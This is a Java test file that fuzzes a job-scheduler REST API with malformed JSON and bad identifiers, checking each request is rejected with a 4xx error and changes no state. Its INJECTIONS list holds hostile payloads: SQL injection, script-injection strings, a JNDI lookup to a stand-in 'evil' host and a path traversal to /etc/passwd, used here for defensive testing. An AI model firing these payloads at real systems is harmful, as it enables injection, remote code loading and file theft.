package io.hydra.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * More than a thousand malformed requests to every mutating endpoint: each is answered 4xx in the
 * error shape, never 5xx, and none changes a job, a run, a token or the audit log.
 */
class BadInputTest {

  private static final String[] INJECTIONS = {
    "' OR 1=1 --",
    "\\\"; DROP TABLE run; --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil/x}",
    "../../etc/passwd",
    "%s%n%x",
    "\\u202e\\u0007bell",
    "Robert'); DELETE FROM job; --",
    "<img src=x onerror=alert(1)>",
    "\\u0001\\u001f",
  };

  /** Not JSON, or JSON that is not an object. */
  private static final String[] BROKEN_JSON = {
    "{",
    "}",
    "{\"a\":",
    "[1,2",
    "nul",
    "{\"x\":1}}",
    "'single'",
    "{a:1}",
    "\"str\"",
    "123",
    "[]",
    "true",
    "null",
    "{\"a\":1,}",
    "{\"a\" 1}",
    "\u0000",
    "{\"a\":\"\u0001\"}",
    "{\"a\":\"line\nbreak\"}",
    "\uFEFF{\"a\":",
    "{\"a\":NaN}",
    "{\"a\":01}",
    "\"\\ud800\"",
  };

  /** Values that are the wrong type or form for every field they are put in. */
  private static final String[] WRONG_VALUES = {
    "123",
    "-1",
    "1.5",
    "[1]",
    "{\"x\":{}}",
    "\"\"",
    "\"yesterday\"",
    "\"2026-13-45T99:00:00Z\"",
    "1e309",
  };

  private static final String[] BAD_IDS = {
    "abc",
    "-1",
    "0",
    "1.5",
    "99999999999999999999",
    "%00",
    "%0A",
    "'%20OR%201=1",
    "%3Cscript%3E",
    "424242",
    "1e3",
  };
  private static final String[] BAD_NAMES = {
    "no-such-job",
    "%00",
    "UPPER",
    "a%20b",
    "'%20OR%201=1--",
    "%3Cscript%3E",
    "x".repeat(300),
    "-leading",
    "%E2%80%AE",
  };

  @RegisterExtension static final TestServer SERVER = TestServer.with(c -> c.withRateLimit(0, 1));
  private static HydraServer server;
  private static ApiClient api;
  private static long runId;

  private record Request(String method, String path, String contentType, String body) {}

  @BeforeAll
  static void start() {
    server = SERVER.server();
    api = new ApiClient(server.port());
    assertThat(
            api.post(
                    "/api/v1/jobs",
                    "{\"name\":\"fz-job\",\"owner\":\"fz\","
                        + "\"schedule\":{\"cron\":\"0 2 * * *\"},\"task\":{\"command\":\"true\"}}")
                .status())
        .isEqualTo(201);
    runId =
        api.post("/api/v1/jobs/fz-job/runs", "{\"logicalTime\":\"2026-03-01T02:00:00Z\"}")
            .json()
            .get("id")
            .asLong();
    api.awaitJson(
        "the fixture run ends",
        "/api/v1/runs/" + runId,
        Duration.ofSeconds(60),
        run -> run.get("state").asText().equals("succeeded"));
  }

  /** Everything a malformed request could change. */
  private static List<String> state() {
    return List.of(
        api.get("/api/v1/jobs").body(),
        api.get("/api/v1/runs?limit=500").body(),
        api.get("/api/v1/tokens").body(),
        api.get("/api/v1/audit?limit=1000").body(),
        api.get("/api/v1/jobs/fz-job/versions").body());
  }

  /** Bodies that break the JSON, or put a wrong value into each field the endpoint knows. */
  private static List<String> badBodies(String... fields) {
    List<String> bodies = new ArrayList<>(List.of(BROKEN_JSON));
    bodies.add("[".repeat(100) + "]".repeat(100));
    bodies.add("{\"a\":".repeat(100) + "1" + "}".repeat(100));
    bodies.add("{\"unknownField\":\"" + "x".repeat(200_000) + "\"}");
    for (String injection : INJECTIONS) {
      bodies.add("{\"" + injection + "\":1}");
    }
    for (String field : fields) {
      for (String value : WRONG_VALUES) {
        bodies.add("{\"" + field + "\":" + value + "}");
      }
      for (String injection : INJECTIONS) {
        bodies.add("{\"" + field + "\":\"" + injection + "\"}");
      }
    }
    return bodies;
  }

  private static List<String> badJobs() {
    List<String> jobs = new ArrayList<>(badBodies("name", "schedule", "task", "retries"));
    String task = "\"task\":{\"command\":\"true\"}";
    for (String injection : INJECTIONS) {
      jobs.add("{\"name\":\"" + injection + "\"," + task + "}");
      jobs.add("{\"name\":\"fz-job\",\"schedule\":{\"cron\":\"" + injection + "\"}," + task + "}");
      jobs.add("{\"name\":\"fz-job\",\"after\":[\"" + injection + "\"]," + task + "}");
      jobs.add(
          "{\"name\":\"fz-job\",\"schedule\":{\"cron\":\"0 2 * * *\",\"timezone\":\""
              + injection
              + "\"},"
              + task
              + "}");
    }
    for (String value : WRONG_VALUES) {
      jobs.add("{\"name\":\"fz-job\",\"retries\":" + value + "," + task + "}");
      jobs.add("{\"name\":\"fz-job\",\"timeout\":" + value + "," + task + "}");
      jobs.add("{\"name\":\"fz-job\",\"concurrency\":" + value + "," + task + "}");
      jobs.add("{\"name\":\"fz-job\",\"after\":[" + value + "]," + task + "}");
      jobs.add("{\"name\":\"fz-job\",\"after\":[{\"job\":" + value + "}]," + task + "}");
    }
    jobs.add("{\"name\":\"fz-job\",\"after\":[null]," + task + "}");
    jobs.add("{\"name\":\"fz-job\",\"task\":{\"command\":\"true\"},\"description\":\"a\\u0000b\"}");
    jobs.add("{\"name\":\"fz-job\",\"task\":{}}");
    jobs.add("{\"name\":\"fz-job\"}");
    return jobs;
  }

  private static List<Request> requests() {
    List<Request> all = new ArrayList<>();
    String json = "application/json";
    String run = "/api/v1/runs/" + runId;
    for (String body : badJobs()) {
      all.add(new Request("POST", "/api/v1/jobs", json, body));
      all.add(new Request("PUT", "/api/v1/jobs/fz-job", json, body));
    }
    for (String body : List.of("name: [unclosed", "{{{", "- a\n- b", "name: fz-job\ntask: 3")) {
      all.add(new Request("POST", "/api/v1/jobs", "application/yaml", body));
    }
    for (String body : badBodies("logicalTime", "params")) {
      all.add(new Request("POST", "/api/v1/jobs/fz-job/runs", json, body));
    }
    for (String injection : INJECTIONS) {
      all.add(
          new Request(
              "POST",
              "/api/v1/jobs/fz-job/runs",
              json,
              "{\"params\":{\"" + injection + "\":\"v\"}}"));
      all.add(
          new Request(
              "POST",
              "/api/v1/jobs/fz-job/runs",
              json,
              "{\"params\":{\"k\":{\"nested\":\"" + injection + "\"}}}"));
    }
    for (String body : badBodies("from", "to", "parallelism", "params")) {
      all.add(new Request("POST", "/api/v1/jobs/fz-job/backfill", json, body));
    }
    String range = "\"from\":\"2026-01-01T00:00:00Z\",\"to\":\"2026-01-02T00:00:00Z\"";
    for (String value :
        List.of(
            "1.5", "true", "[]", "{}", "\"2\"", "-1", "0", "1001", "99999999999", "null,\"x\":1")) {
      all.add(
          new Request(
              "POST",
              "/api/v1/jobs/fz-job/backfill",
              json,
              "{" + range + ",\"parallelism\":" + value + "}"));
    }
    all.add(
        new Request(
            "POST",
            "/api/v1/jobs/fz-job/backfill",
            json,
            "{\"from\":\"2026-02-01T00:00:00Z\",\"to\":\"2026-01-01T00:00:00Z\"}"));
    for (String body : badBodies("downstream", "params")) {
      all.add(new Request("POST", run + "/rerun", json, body));
    }
    for (String action : List.of("kill", "mark-success", "skip")) {
      for (String body : badBodies()) {
        all.add(new Request("POST", run + "/" + action, json, body));
      }
    }
    for (String action : List.of("pause", "resume")) {
      for (String body : badBodies()) {
        all.add(new Request("POST", "/api/v1/jobs/fz-job/" + action, json, body));
      }
    }
    for (String body : badBodies("jobs", "prune", "dryRun", "source", "ifRevision")) {
      all.add(new Request("POST", "/api/v1/apply", json, body));
    }
    for (String injection : INJECTIONS) {
      all.add(
          new Request(
              "POST",
              "/api/v1/apply",
              json,
              "{\"jobs\":[{\"name\":\"" + injection + "\",\"task\":{\"command\":\"x\"}}]}"));
    }
    for (String body : badBodies("name", "role", "owners")) {
      all.add(new Request("POST", "/api/v1/tokens", json, body));
    }
    for (String body : badBodies("cron", "timezone", "from", "count")) {
      all.add(new Request("POST", "/api/v1/schedule/preview", json, body));
    }
    all.add(new Request("POST", "/api/v1/jobs", json, "{\"a\":\"" + "x".repeat(1_100_000) + "\"}"));
    for (String id : BAD_IDS) {
      for (String action : List.of("rerun", "kill", "mark-success", "skip")) {
        all.add(new Request("POST", "/api/v1/runs/" + id + "/" + action, json, "{}"));
      }
      all.add(new Request("POST", "/api/v1/backfills/" + id + "/cancel", json, "{}"));
      all.add(new Request("DELETE", "/api/v1/tokens/" + id, null, ""));
    }
    for (String name : BAD_NAMES) {
      for (String action : List.of("runs", "backfill", "pause", "resume")) {
        all.add(new Request("POST", "/api/v1/jobs/" + name + "/" + action, json, "{}"));
      }
      all.add(new Request("PUT", "/api/v1/jobs/" + name, json, "{}"));
      all.add(new Request("DELETE", "/api/v1/jobs/" + name, null, ""));
    }
    return all;
  }

  private static boolean errorShape(ApiClient.Response response) {
    try {
      JsonNode error = response.json().get("error");
      return error != null
          && !error.path("code").asText().isBlank()
          && !error.path("message").asText().isBlank()
          && error.path("fields").isArray();
    } catch (AssertionError notJson) {
      return false;
    }
  }

  @Test
  void malformedRequestsAre4xxInTheErrorShapeAndChangeNothing() {
    List<String> before = state();
    List<Request> requests = requests();
    assertThat(requests).hasSizeGreaterThanOrEqualTo(1000);
    Set<String> endpointsHit = new LinkedHashSet<>();
    List<String> wrong = new ArrayList<>();
    for (Request r : requests) {
      ApiClient.Response response =
          api.send(
              r.method(), r.path(), r.contentType(), r.body().getBytes(StandardCharsets.UTF_8));
      String what =
          r.method()
              + " "
              + r.path()
              + " "
              + r.body().substring(0, Math.min(120, r.body().length()))
              + " -> "
              + response.status()
              + " "
              + response.body().substring(0, Math.min(300, response.body().length()));
      if (response.status() < 400 || response.status() > 499 || !errorShape(response)) {
        wrong.add(what);
      }
      endpointsHit.add(r.method() + " " + r.path().replaceAll("/[^/]+$", "/x"));
    }
    assertThat(wrong).as("answers that are not a 4xx in the error shape").isEmpty();
    assertThat(state()).as("nothing changed").isEqualTo(before);
    assertThat(endpointsHit).hasSizeGreaterThan(10);
  }

  /** The inputs a mutation fuzzer found answered with a 500, each now a 400 naming its field. */
  @Test
  void inputsThatOnceGot500AreNamedAndChangeNothing() {
    List<String> before = state();
    String nullUpstream = "{\"name\":\"fz-null\",\"after\":[null],\"task\":{\"command\":\"true\"}}";
    assertField(api.post("/api/v1/jobs", nullUpstream), 400, "after[0].job");
    assertField(
        api.post("/api/v1/apply", "{\"jobs\":[" + nullUpstream + "]}"),
        400,
        "jobs[0].after[0].job");
    assertField(
        api.post(
            "/api/v1/jobs/fz-job/backfill",
            "{\"from\":\"0000-01-01T00:00:00Z\",\"to\":\"2026-01-01T00:00:00Z\"}"),
        400,
        "from");
    assertField(
        api.post(
            "/api/v1/jobs",
            "{\"name\":\"fz-never\",\"schedule\":{\"cron\":\"0 0 31 2 *\"},"
                + "\"task\":{\"command\":\"true\"}}"),
        400,
        "schedule.cron");
    assertField(api.post("/api/v1/schedule/preview", "{\"cron\":\"0 0 31 2 *\"}"), 400, "cron");
    assertThat(state()).as("nothing changed").isEqualTo(before);
  }

  /**
   * A body over 1 MB is a 413 naming the body, except for an apply, which carries a repository's
   * whole job set: 1.5 MB of definitions (about 4,000 jobs) are planned.
   */
  @Test
  void onlyAnApplyTakesABodyOverOneMegabyte() {
    List<String> before = state();
    StringBuilder jobs = new StringBuilder("{\"dryRun\":true,\"jobs\":[");
    for (int i = 0; jobs.length() < 1_500_000; i++) {
      jobs.append(i == 0 ? "" : ",")
          .append("{\"name\":\"big-")
          .append(i)
          .append("\",\"schedule\":{\"cron\":\"0 2 * * *\"},")
          .append("\"task\":{\"command\":\"echo a job among thousands of a large repository\"}}");
    }
    String set = jobs.append("]}").toString();

    ApiClient.Response refused = api.post("/api/v1/jobs", set);
    assertField(refused, 413, "body");
    assertThat(refused.json().get("error").get("code").asText()).isEqualTo("too_large");
    assertThat(refused.body()).contains("1,000,000 bytes");

    ApiClient.Response planned = api.post("/api/v1/apply", set);
    assertThat(planned.status()).as(planned.body()).isEqualTo(200);
    assertThat(planned.json().get("dryRun").asBoolean()).isTrue();
    assertThat(planned.json().get("created").size()).isGreaterThan(4000);
    assertThat(state()).as("nothing changed").isEqualTo(before);
  }

  private static void assertField(ApiClient.Response response, int status, String field) {
    assertThat(response.status()).as(response.body()).isEqualTo(status);
    assertThat(errorShape(response)).as(response.body()).isTrue();
    assertThat(response.json().get("error").get("fields").findValuesAsText("field"))
        .as(response.body())
        .contains(field);
  }
}
